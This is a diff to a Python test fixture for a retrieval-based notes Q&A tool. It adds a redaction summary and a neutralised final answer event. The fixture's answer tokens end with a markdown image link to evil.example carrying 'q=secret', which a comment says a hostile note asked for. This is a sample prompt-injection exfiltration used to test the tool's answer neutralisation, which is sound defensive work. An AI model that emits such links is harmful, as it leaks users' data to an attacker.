@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+from askvault.ask.events import DoneEvent, Metrics
+from askvault.generate.answer_safety import neutralise_answer
 from askvault.model import Chunk, Hit, SearchResult, TermStat
 
 KODI = Chunk(
@@ -84,6 +86,11 @@ STATUS: dict[str, object] = {
         },
         "failures": [{"path": "Bad.md", "reason": "invalid UTF-8 at byte 12"}],
         "dense": "ready",
+        "redactions": {
+            "total": 3,
+            "by_kind": {"aws-access-key": 1, "password": 2},
+            "notes": [{"path": "Homelab/B2.md", "kinds": {"aws-access-key": 1, "password": 2}}],
+        },
     },
     "models": {
         "embed": {"name": "nomic-embed-text", "ok": True, "problem": None},
@@ -115,7 +122,30 @@ def _token(text: str) -> dict[str, object]:
 
 
 QUESTION = "and which port does it use?"
-ANSWER_TOKENS = ["The Postgres container", " publishes port 5433", " on the host", " (5432 inside the container) [1]."]
+# The last token repeats what a hostile note asked for: `done.answer` carries its inert form, the tokens stay raw.
+ANSWER_TOKENS = [
+    "The Postgres container",
+    " publishes port 5433",
+    " on the host",
+    " (5432 inside the container) [1]. ![port map](https://evil.example/ports.png?q=secret)",
+]
+SAFE_ANSWER = neutralise_answer("".join(ANSWER_TOKENS))
+DONE = DoneEvent(
+    answer=SAFE_ANSWER.text,
+    citations=(1,),
+    invalid_citations=(),
+    no_results=False,
+    metrics=Metrics(
+        embed_ms=10.4,
+        retrieval_ms=3.1,
+        first_token_ms=412.0,
+        generation_ms=1280.5,
+        total_ms=1706.2,
+        prompt_tokens=742,
+        completion_tokens=23,
+    ),
+    neutralised=SAFE_ANSWER.neutralised,
+)
 ASK_SCRIPT: list[dict[str, object]] = [
     {
         "type": "retrieval",
@@ -148,20 +178,5 @@ ASK_SCRIPT: list[dict[str, object]] = [
         "timings_ms": {"embed": 10.4, "retrieval": 3.1},
     },
     *[_token(t) for t in ANSWER_TOKENS],
-    {
-        "type": "done",
-        "answer": "".join(ANSWER_TOKENS),
-        "citations": [1],
-        "invalid_citations": [],
-        "no_results": False,
-        "metrics": {
-            "embed_ms": 10.4,
-            "retrieval_ms": 3.1,
-            "first_token_ms": 412.0,
-            "generation_ms": 1280.5,
-            "total_ms": 1706.2,
-            "prompt_tokens": 742,
-            "completion_tokens": 23,
-        },
-    },
+    {**DONE.to_json()},
 ]
